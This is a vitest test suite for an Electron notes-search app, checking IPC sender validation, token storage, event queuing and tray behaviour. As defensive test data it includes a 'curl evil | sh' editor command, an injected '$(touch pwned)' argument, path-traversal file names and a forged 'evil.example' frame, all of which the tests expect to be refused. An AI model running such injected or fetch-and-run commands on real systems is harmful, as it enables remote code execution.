import fs from 'node:fs'
import os from 'node:os'
import path from 'node:path'
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest'
import { ENGINE_METHOD_NAMES, ipcChannel, SHELL_METHOD_NAMES, type BrainMethodName, type EngineMethods, type EngineState } from '../../../../shared/ipc'
import { createRpcClient } from '../../../../shared/rpc/rpc-client'
import { fromDomMessagePort } from '../../../../shared/rpc/port-adapters'
import { electronMock, FakeBrowserWindow, FakeTray, type FakeMessagePortMain } from '../../../support/electron-mock'
import { controlCalls, runEngineServiceInForks, waitFor, type EngineBehaviour, type FakeEngine } from '../fake-engine-process'

vi.mock('electron', async () => (await import('../../../support/electron-mock')).electronModule)

const { AppShell } = await import('../../../../electron/main/app-shell')
const { GATEWAY_TOKEN_FILE } = await import('../../../../electron/main/secrets/gateway-token-store')

let dataDir: string
let engines: FakeEngine[]
let behaviour: EngineBehaviour
let shell: InstanceType<typeof AppShell> | null
const rendererDir = path.resolve('/app/out/renderer')
let quitCalls = 0

beforeEach(() => {
  electronMock.reset()
  ;({ engines, behaviour } = runEngineServiceInForks())
  dataDir = fs.mkdtempSync(path.join(os.tmpdir(), 'notes-rag-shell-'))
  shell = null
  quitCalls = 0
})

afterEach(async () => {
  await shell?.dispose()
  fs.rmSync(dataDir, { recursive: true, force: true })
})

async function startShell(settings?: object) {
  if (settings) fs.writeFileSync(path.join(dataDir, 'settings.json'), JSON.stringify(settings))
  shell = new AppShell({
    dataDir,
    enginePath: '/app/out/main/engine-process.js',
    preloadPath: '/app/out/preload/index.cjs',
    location: { devServerUrl: null, rendererDir },
    trayIconPath: '/app/resources/tray-icon.png',
    quit: () => quitCalls++,
    engine: { backoff: { initialMs: 10, maxMs: 20, maxAttempts: 2, stableMs: 60_000 }, shutdownTimeoutMs: 200 },
  })
  shell.start()
  await waitFor(() => shell!.engine.state.type === 'running')
  const chat = shell.chatWindow as unknown as FakeBrowserWindow
  const quick = shell.quickSearchWindow as unknown as FakeBrowserWindow
  return { shell, chat, quick }
}

/** What Electron passes to an ipcMain.handle handler when `window` calls `ipcRenderer.invoke`. */
function eventFrom(window: FakeBrowserWindow, frameUrl = window.webContents.url, parent: unknown = null) {
  return { sender: window.webContents, senderFrame: { url: frameUrl, parent } }
}

async function invoke(window: FakeBrowserWindow, method: BrainMethodName, ...args: unknown[]) {
  return (await electronMock.ipcMain.invoke(ipcChannel.invoke(method), eventFrom(window), ...args)) as { ok: boolean; value?: any; error?: any }
}

function eventsSent(window: FakeBrowserWindow, event: string) {
  return window.webContents.sent.filter((message) => message.channel === ipcChannel.event(event as never)).map((message) => message.args[0])
}

describe('IPC registration and the sender check', () => {
  it('registers a handler for every engine and shell method and relays engine calls', async () => {
    const { chat } = await startShell()
    // One handler per method of the contract: a method added to shared/ipc without a handler fails here.
    expect(electronMock.ipcMain.handlers.size).toBe(ENGINE_METHOD_NAMES.length + SHELL_METHOD_NAMES.length)
    expect(await invoke(chat, 'search', 'what did I do in March')).toEqual({ ok: true, value: { query: 'what did I do in March' } })
    expect(engines[0]!.calls.at(-1)).toEqual({ method: 'search', args: ['what did I do in March'] })
  })

  it('returns engine errors as ErrorData', async () => {
    const { chat } = await startShell()
    const result = await invoke(chat, 'related', 'x.md')
    expect(result).toEqual({ ok: false, error: { code: 'invalid-input', message: 'unexpected related', retryable: false } })
  })

  it('rejects a foreign frame, a subframe and an unknown window, before anything runs', async () => {
    const { chat } = await startShell()
    const channel = ipcChannel.invoke('search')
    const calls = () => engines[0]!.calls.filter((call) => call.method === 'search').length

    const foreign = (await electronMock.ipcMain.invoke(channel, eventFrom(chat, 'https://evil.example/'), 'q')) as { ok: boolean; error: { code: string } }
    expect(foreign).toMatchObject({ ok: false, error: { code: 'invalid-input' } })

    const noFrame = (await electronMock.ipcMain.invoke(channel, { sender: chat.webContents, senderFrame: null }, 'q')) as { ok: boolean }
    expect(noFrame.ok).toBe(false)

    const subframe = (await electronMock.ipcMain.invoke(channel, eventFrom(chat, chat.webContents.url, { url: chat.webContents.url }), 'q')) as { ok: boolean }
    expect(subframe.ok).toBe(false)

    const stranger = new FakeBrowserWindow({})
    await stranger.loadFile(path.join(rendererDir, 'chat.html'))
    const unknown = (await electronMock.ipcMain.invoke(channel, eventFrom(stranger), 'q')) as { ok: boolean; error: { message: string } }
    expect(unknown).toMatchObject({ ok: false, error: { message: expect.stringContaining('unknown window') } })

    const shellCall = (await electronMock.ipcMain.invoke(ipcChannel.invoke('setGatewayToken'), eventFrom(chat, 'https://evil.example/'), 'stolen')) as { ok: boolean }
    expect(shellCall.ok).toBe(false)
    expect(fs.existsSync(path.join(dataDir, GATEWAY_TOKEN_FILE))).toBe(false)
    expect(calls()).toBe(0)
  })
})

describe('engine ports for windows', () => {
  it('hands each loaded window its own port to the engine, and a new one after a restart', async () => {
    const { chat, quick } = await startShell()
    expect(chat.webContents.postedMessages).toEqual([])
    chat.webContents.emit('did-finish-load')
    quick.webContents.emit('did-finish-load')
    expect(chat.webContents.postedMessages).toHaveLength(1)
    expect(chat.webContents.postedMessages[0]).toMatchObject({ channel: ipcChannel.enginePort, message: null })
    expect(quick.webContents.postedMessages).toHaveLength(1)

    // The preload's side: a DOM-style port; engine calls go straight to the engine, not through ipcMain.
    const port = (chat.webContents.postedMessages[0]!.transfer[0] as FakeMessagePortMain).port
    const client = createRpcClient<EngineMethods>(fromDomMessagePort(port as never))
    expect(await client.search('backups')).toEqual({ query: 'backups' })
    engines[0]!.calls.length = 0
    expect(await client.call('search', ['restore steps'])).toEqual({ query: 'restore steps' })
    expect(engines[0]!.calls).toEqual([{ method: 'search', args: ['restore steps'] }])

    electronMock.forks[0]!.exit(1)
    await waitFor(() => shell!.engine.state.type === 'running' && chat.webContents.postedMessages.length === 2)
    expect(quick.webContents.postedMessages).toHaveLength(2)
    const fresh = createRpcClient<EngineMethods>(fromDomMessagePort((chat.webContents.postedMessages[1]!.transfer[0] as FakeMessagePortMain).port as never))
    expect(await fresh.search('after restart')).toEqual({ query: 'after restart' })
    expect(engines[1]!.calls.at(-1)).toEqual({ method: 'search', args: ['after restart'] })
    // Window ports carry no events: windows get them from main, queued until they are ready.
    const pushed: unknown[] = []
    fresh.on('index-status', (payload) => pushed.push(payload))
    engines[1]!.fire('index-status', { phase: { type: 'scanning' } })
    expect(await fresh.search('round trip')).toEqual({ query: 'round trip' })
    expect(pushed).toEqual([])
    const connects = controlCalls(electronMock.forks[1]!).filter((call) => call.method === 'connect')
    expect(connects.map((call) => call.args)).toEqual([
      ['main', { main: true }],
      [`window-${chat.webContents.id}`, { events: false }],
      [`window-${quick.webContents.id}`, { events: false }],
    ])
    expect(connects.map((call) => call.transfer.length)).toEqual([1, 1, 1])
    client.dispose()
    fresh.dispose()
  })

  it('gives no port to a window showing a foreign page', async () => {
    const { chat } = await startShell()
    chat.webContents.url = 'https://evil.example/'
    chat.webContents.emit('did-finish-load')
    expect(chat.webContents.postedMessages).toEqual([])
  })
})

describe('answer deltas go to the caller only', () => {
  it('relays the deltas of an ask made through main to the window that asked, not to the others', async () => {
    const { chat, quick } = await startShell()
    await invoke(chat, 'rendererReady')
    await invoke(quick, 'rendererReady')
    expect(await invoke(chat, 'ask', { answerId: 'a1', question: 'what did I do in March?' })).toEqual({ ok: true, value: { answerId: 'a1', text: 'Hello' } })
    expect(eventsSent(chat, 'answer-delta')).toEqual([{ answerId: 'a1', text: 'Hel' }, { answerId: 'a1', text: 'lo' }])
    expect(eventsSent(quick, 'answer-delta')).toEqual([])
  })

  it("streams the deltas of an ask over a window's own port back on that port, and main broadcasts none", async () => {
    const { chat, quick } = await startShell()
    await invoke(chat, 'rendererReady')
    await invoke(quick, 'rendererReady')
    chat.webContents.emit('did-finish-load')
    const port = (chat.webContents.postedMessages[0]!.transfer[0] as FakeMessagePortMain).port
    const client = createRpcClient<EngineMethods>(fromDomMessagePort(port as never))
    const deltas: unknown[] = []
    const answer = await client.call('ask', [{ answerId: 'a2', question: 'and in April?' }], { onEvent: (event, payload) => deltas.push({ event, payload }) })
    expect(answer).toEqual({ answerId: 'a2', text: 'Hello' })
    expect(deltas).toEqual([
      { event: 'answer-delta', payload: { answerId: 'a2', text: 'Hel' } },
      { event: 'answer-delta', payload: { answerId: 'a2', text: 'lo' } },
    ])
    expect(eventsSent(chat, 'answer-delta')).toEqual([])
    expect(eventsSent(quick, 'answer-delta')).toEqual([])
    client.dispose()
  })
})

describe('main→renderer events', () => {
  it('queues events until the window calls rendererReady, keeping only the latest snapshot', async () => {
    const { chat, quick } = await startShell()
    const downloading = { type: 'downloading', kind: 'chat', loadedBytes: 10, totalBytes: 100, bytesPerSecond: 5, etaSeconds: 18 }
    const verifying = { type: 'verifying', kind: 'chat' }
    engines[0]!.fire('index-status', { phase: { type: 'scanning' } })
    engines[0]!.fire('model-download', downloading)
    engines[0]!.fire('model-download', verifying)
    engines[0]!.fire('index-status', { phase: { type: 'indexing', done: 1, total: 2 } })
    await waitFor(() => shell!.events.queued(chat.webContents as never) >= 4)
    expect(chat.webContents.sent).toEqual([])

    expect(await invoke(chat, 'rendererReady')).toEqual({ ok: true, value: true })
    // Progress that is not a snapshot keeps every step, in order.
    expect(eventsSent(chat, 'model-download')).toEqual([downloading, verifying])
    const statuses = eventsSent(chat, 'index-status')
    expect(statuses.at(-1)).toEqual({ phase: { type: 'indexing', done: 1, total: 2 } })
    expect(statuses).not.toContainEqual({ phase: { type: 'scanning' } })
    expect((eventsSent(chat, 'engine-state') as EngineState[]).at(-1)).toEqual({ type: 'running' })

    // Once ready, events go straight out; the quick-search window, not ready yet, still holds its copy.
    engines[0]!.fire('gateway-status', { type: 'probing' })
    await waitFor(() => eventsSent(chat, 'gateway-status').length === 1)
    expect(quick.webContents.sent).toEqual([])

    // A reload makes the window not-ready again.
    chat.webContents.emit('did-start-loading')
    engines[0]!.fire('gateway-status', { type: 'not-configured' })
    await waitFor(() => shell!.events.queued(chat.webContents as never) === 1)
    expect(eventsSent(chat, 'gateway-status')).toHaveLength(1)
  })

  it('pushes engine-state to the windows when the engine crashes and restarts', async () => {
    const { chat } = await startShell()
    await invoke(chat, 'rendererReady')
    electronMock.forks[0]!.exit(134)
    await waitFor(() => shell!.engine.state.type === 'running')
    const states = (eventsSent(chat, 'engine-state') as EngineState[]).map((state) => state.type)
    expect(states.slice(-2)).toEqual(['restarting', 'running'])
    expect(eventsSent(chat, 'engine-state')).toContainEqual({ type: 'restarting', attempt: 1, retryInMs: 10, lastExit: 'exit code 134' })
  })
})

describe('shell methods', () => {
  it('stores the gateway token with safeStorage, never in settings.json, and hands it to the engine', async () => {
    const { chat } = await startShell({ gateway: { baseUrl: 'https://llm.homelab.lan/v1' } })
    const token = 'sk-homelab-0123456789'
    expect(await invoke(chat, 'hasGatewayToken')).toEqual({ ok: true, value: false })
    expect(await invoke(chat, 'setGatewayToken', token)).toEqual({ ok: true, value: true })
    expect(await invoke(chat, 'hasGatewayToken')).toEqual({ ok: true, value: true })
    await waitFor(() => engines[0]!.token === token)

    const stored = fs.readFileSync(path.join(dataDir, GATEWAY_TOKEN_FILE))
    expect(stored.includes(Buffer.from(token))).toBe(false)
    expect(electronMock.safeStorage.decryptString(stored)).toBe(token)
    for (const file of fs.readdirSync(dataDir)) {
      if (file === GATEWAY_TOKEN_FILE) continue
      expect(fs.readFileSync(path.join(dataDir, file), 'utf8')).not.toContain(token)
    }
    if (process.platform !== 'win32') expect(fs.statSync(path.join(dataDir, GATEWAY_TOKEN_FILE)).mode & 0o077).toBe(0)

    // A restarted engine is opened with the stored token.
    electronMock.forks[0]!.exit(1)
    await waitFor(() => electronMock.forks.length === 2 && shell!.engine.state.type === 'running')
    expect(controlCalls(electronMock.forks[1]!)[0]).toMatchObject({ method: 'open', args: [expect.any(String), token] })

    expect(await invoke(chat, 'setGatewayToken', 42)).toMatchObject({ ok: false, error: { code: 'invalid-input' } })
    expect(await invoke(chat, 'hasGatewayToken')).toEqual({ ok: true, value: true })
    expect(await invoke(chat, 'setGatewayToken', null)).toEqual({ ok: true, value: false })
    expect(fs.existsSync(path.join(dataDir, GATEWAY_TOKEN_FILE))).toBe(false)
    await waitFor(() => engines[1]!.token === null)
  })

  it('without any keychain, asks; a cancelled question stores nothing', async () => {
    const { chat } = await startShell()
    electronMock.safeStorage.available = false
    expect(await invoke(chat, 'setGatewayToken', 'abc')).toEqual({ ok: true, value: false })
    expect(electronMock.dialog.messages[0]).toMatchObject({ buttons: ['Keep for this session only', 'Cancel'] })
    expect(fs.existsSync(path.join(dataDir, GATEWAY_TOKEN_FILE))).toBe(false)
  })

  it("with Linux's fixed-key fallback (basic_text), warns and keeps the token for the session only when asked", async () => {
    const { chat } = await startShell({ gateway: { baseUrl: 'https://llm.homelab.lan/v1' } })
    electronMock.safeStorage.backend = 'basic_text'
    electronMock.dialog.responses.push(0)
    const expected = process.platform === 'linux'
    expect(await invoke(chat, 'setGatewayToken', 'sk-session')).toEqual({ ok: true, value: true })
    expect(electronMock.dialog.messages.length).toBe(expected ? 1 : 0)
    if (!expected) return
    expect(electronMock.dialog.messages[0]!.detail).toMatch(/fixed key/)
    expect(fs.existsSync(path.join(dataDir, GATEWAY_TOKEN_FILE))).toBe(false)
    await waitFor(() => engines[0]!.token === 'sk-session')
    expect(await invoke(chat, 'hasGatewayToken')).toEqual({ ok: true, value: true })
  })

  it('registers the shortcut from settings and reports a failed registration', async () => {
    electronMock.globalShortcut.taken.add('Alt+Space')
    const { chat, quick } = await startShell({ ui: { quickSearchShortcut: 'Alt+Space' } })
    expect(await invoke(chat, 'getShortcutStatus')).toEqual({
      ok: true,
      value: { accelerator: 'Alt+Space', registered: false, message: expect.stringContaining('already used') },
    })

    // The engine saves new settings and pushes settings-change: main re-registers.
    const settings = (await invoke(chat, 'getSettings')).value
    engines[0]!.fire('settings-change', { ...settings, ui: { ...settings.ui, quickSearchShortcut: 'CmdOrCtrl+Shift+K', openAtLogin: true } })
    await waitFor(() => electronMock.globalShortcut.isRegistered('CmdOrCtrl+Shift+K'))
    expect(await invoke(chat, 'getShortcutStatus')).toEqual({ ok: true, value: { accelerator: 'CmdOrCtrl+Shift+K', registered: true, message: null } })
    expect(electronMock.app.loginItemSettings).toEqual({ openAtLogin: true })

    electronMock.globalShortcut.registered.get('CmdOrCtrl+Shift+K')!()
    expect(quick.isVisible()).toBe(true)

    engines[0]!.fire('settings-change', { ...settings, ui: { ...settings.ui, quickSearchShortcut: 'Ctrl+' } })
    await waitFor(() => !electronMock.globalShortcut.isRegistered('CmdOrCtrl+Shift+K'))
    expect((await invoke(chat, 'getShortcutStatus')).value).toMatchObject({ registered: false, message: expect.stringContaining('not a valid shortcut') })
  })

  it('askInChat hides quick search, shows chat and pushes chat-ask to it', async () => {
    const { chat, quick } = await startShell()
    await invoke(chat, 'rendererReady')
    shell!.toggleQuickSearch()
    expect(quick.isVisible()).toBe(true)
    chat.hide()
    expect(await invoke(quick, 'askInChat', 'what shipped in week 14?')).toEqual({ ok: true, value: true })
    expect(quick.isVisible()).toBe(false)
    expect(chat.isVisible()).toBe(true)
    expect(eventsSent(chat, 'chat-ask')).toEqual([{ question: 'what shipped in week 14?' }])
    expect(eventsSent(quick, 'chat-ask')).toEqual([])
    expect(await invoke(quick, 'hideQuickSearch')).toEqual({ ok: true, value: true })
  })

  it('pickFolder returns the chosen folder, or null when cancelled', async () => {
    const { chat } = await startShell()
    expect(await invoke(chat, 'pickFolder')).toEqual({ ok: true, value: null })
    electronMock.dialog.nextResult = { canceled: false, filePaths: ['/home/me/logs'] }
    expect(await invoke(chat, 'pickFolder')).toEqual({ ok: true, value: '/home/me/logs' })
    expect(electronMock.dialog.calls[1]![1]).toMatchObject({ properties: ['openDirectory', 'createDirectory'] })
  })

  it('saveMarkdown writes where the save dialog says, suggests only a bare name, and writes nothing when cancelled', async () => {
    const { chat } = await startShell()
    electronMock.dialog.saveCalls.length = 0
    electronMock.dialog.nextSaveResult = { canceled: true, filePath: '' }
    expect(await invoke(chat, 'saveMarkdown', 'notes-rag-march.md', '# March\n')).toEqual({ ok: true, value: null })
    expect(fs.readdirSync(dataDir).filter((name) => name.endsWith('.md'))).toEqual([])
    const target = path.join(dataDir, 'export.md')
    electronMock.dialog.nextSaveResult = { canceled: false, filePath: target }
    expect(await invoke(chat, 'saveMarkdown', '../../etc/notes-rag-march', '# March\n\nPassages [1]\n')).toEqual({ ok: true, value: target })
    expect(fs.readFileSync(target, 'utf8')).toBe('# March\n\nPassages [1]\n')
    expect(electronMock.dialog.saveCalls[1]![1]).toMatchObject({ defaultPath: 'notes-rag-march.md', filters: [{ name: 'Markdown', extensions: ['md'] }] })
    const bad = await invoke(chat, 'saveMarkdown', 'x.md', 42)
    expect(bad).toMatchObject({ ok: false, error: { code: 'invalid-input' } })
    electronMock.dialog.nextSaveResult = { canceled: false, filePath: path.join(dataDir, 'no-such-dir', 'x.md') }
    expect(await invoke(chat, 'saveMarkdown', 'x.md', '# x\n')).toMatchObject({ ok: false, error: { code: 'export-failed', message: expect.stringContaining('no-such-dir') } })
  })

  it('openNote runs the editor command without a shell, with {path} and {line}, for indexed notes only', async () => {
    const folder = path.join(dataDir, 'my notes')
    fs.mkdirSync(folder)
    fs.writeFileSync(path.join(folder, '2023-W14.md'), '# Week 14\n')
    fs.writeFileSync(path.join(folder, 'not-indexed.md'), '# New\n')
    behaviour.indexedNotes = ['2023-W14.md']
    const marker = path.join(dataDir, 'opened.json')
    const script = `require('fs').writeFileSync(${JSON.stringify(marker)}, JSON.stringify(process.argv.slice(1)))`
    // Shell syntax must reach the editor as plain words: a shell would run the `touch`.
    const pwned = path.join(dataDir, 'pwned')
    const editorCommand = `"${process.execPath}" -e "${script.replaceAll('"', '\\"')}" -- --goto "{path}:{line}" ; $(touch ${pwned})`
    const { chat } = await startShell({ folder, ui: { editorCommand } })
    expect(await invoke(chat, 'openNote', '2023-W14.md', 7)).toEqual({ ok: true, value: true })
    await waitFor(() => fs.existsSync(marker) && fs.statSync(marker).size > 0, 30_000)
    expect(JSON.parse(fs.readFileSync(marker, 'utf8'))).toEqual(['--goto', `${fs.realpathSync(path.join(folder, '2023-W14.md'))}:7`, ';', '$(touch', `${pwned})`])
    expect(fs.existsSync(pwned)).toBe(false)

    expect(await invoke(chat, 'openNote', '../settings.json')).toMatchObject({ ok: false, error: { code: 'invalid-input' } })
    expect(await invoke(chat, 'openNote', 'gone.md')).toMatchObject({ ok: false, error: { code: 'file-vanished' } })
    expect(await invoke(chat, 'openNote', 'not-indexed.md')).toMatchObject({ ok: false, error: { code: 'not-found' } })
    expect(engines[0]!.calls.filter((call) => call.method === 'isIndexedNote').map((call) => call.args[0])).toEqual(['2023-W14.md', 'not-indexed.md'])
  })

  it('openNote falls back to the OS default app for a text note', async () => {
    const folder = path.join(dataDir, 'logs')
    fs.mkdirSync(folder)
    fs.writeFileSync(path.join(folder, '2024-03-11.md'), 'standup\n')
    behaviour.indexedNotes = ['2024-03-11.md']
    const { chat } = await startShell({ folder })
    expect(await invoke(chat, 'openNote', '2024-03-11.md')).toEqual({ ok: true, value: true })
    expect(electronMock.shell.opened).toEqual([fs.realpathSync(path.join(folder, '2024-03-11.md'))])
    electronMock.shell.openPathResult = 'No application is associated'
    expect(await invoke(chat, 'openNote', '2024-03-11.md')).toMatchObject({ ok: false, error: { message: expect.stringContaining('No application') } })
  })

  it('a window cannot set the editor command through updateSettings; setEditorCommand asks first, then saves through main', async () => {
    const { chat } = await startShell()
    const refused = await invoke(chat, 'updateSettings', { ui: { editorCommand: '/bin/sh -c "curl evil | sh"' } })
    expect(refused).toMatchObject({ ok: false, error: { code: 'invalid-input', message: expect.stringContaining('confirmation') } })
    expect(engines[0]!.calls.some((call) => call.method === 'updateSettings')).toBe(false)

    // Declined (or the dialog closed): nothing is saved.
    expect(await invoke(chat, 'setEditorCommand', 'code -g {path}:{line}')).toEqual({ ok: true, value: false })
    expect(electronMock.dialog.messages[0]).toMatchObject({ buttons: ['Cancel', 'Use this program'], defaultId: 0 })
    expect(engines[0]!.calls.some((call) => call.method === 'setEditorCommand')).toBe(false)

    electronMock.dialog.responses.push(1)
    expect(await invoke(chat, 'setEditorCommand', 'code -g {path}:{line}')).toEqual({ ok: true, value: true })
    expect(engines[0]!.calls.filter((call) => call.method === 'setEditorCommand')).toEqual([{ method: 'setEditorCommand', args: ['code -g {path}:{line}'] }])
    expect(shell!.currentSettings.ui.editorCommand).toBe('code -g {path}:{line}')
    // The whole ui section sent back unchanged is fine (the command is stripped before it reaches the engine).
    const { ui } = shell!.currentSettings
    const themed = await invoke(chat, 'updateSettings', { ui: { ...ui, theme: 'dark' } })
    expect(themed.ok).toBe(false) // the fake engine has no updateSettings; what matters is what reached it
    expect(engines[0]!.calls.find((call) => call.method === 'updateSettings')!.args[0]).toEqual({ ui: { theme: 'dark', quickSearchShortcut: ui.quickSearchShortcut, openAtLogin: ui.openAtLogin } })
  })
})

describe('tray', () => {
  type MenuItem = { id?: string; label?: string; enabled?: boolean; click?: () => void }
  const items = () => (FakeTray.all[0]!.menu!.items as MenuItem[])
  const item = (id: string) => items().find((entry) => entry.id === id)!

  it('shows the index status and pauses/resumes indexing through the engine', async () => {
    await startShell()
    await waitFor(() => item('status').label === 'Indexed 3 notes, 12 passages')
    expect(items().map((entry) => entry.id ?? '-')).toEqual(['open-chat', 'quick-search', '-', 'status', 'pause-resume', '-', 'quit'])
    expect(item('status').enabled).toBe(false)

    expect(item('pause-resume').label).toBe('Pause indexing')
    item('pause-resume').click!()
    await waitFor(() => item('pause-resume').label === 'Resume indexing')
    expect(engines[0]!.calls.map((call) => call.method)).toContain('pauseIndexing')
    expect(item('status').label).toBe('Indexing paused')

    item('pause-resume').click!()
    await waitFor(() => item('pause-resume').label === 'Pause indexing')
    expect(engines[0]!.calls.map((call) => call.method)).toContain('resumeIndexing')

    engines[0]!.fire('index-status', { ...engines[0]!.snapshot(), phase: { type: 'embedding', done: 5, total: 40 } })
    await waitFor(() => item('status').label === 'Embedding 5/40 passages')
    expect(FakeTray.all[0]!.tooltip).toBe('notes-rag: Embedding 5/40 passages')
  })

  it('opens the windows and quits from the menu', async () => {
    const { chat, quick } = await startShell()
    chat.hide()
    item('open-chat').click!()
    expect(chat.isVisible()).toBe(true)
    item('quick-search').click!()
    expect(quick.isVisible()).toBe(true)
    item('quit').click!()
    expect(quitCalls).toBe(1)
  })

  it('disables pause while the engine is down and says so', async () => {
    await startShell()
    electronMock.forks[0]!.exit(1)
    expect(item('status').label).toBe('Engine restarting (attempt 1)…')
    expect(item('pause-resume').enabled).toBe(false)
  })
})
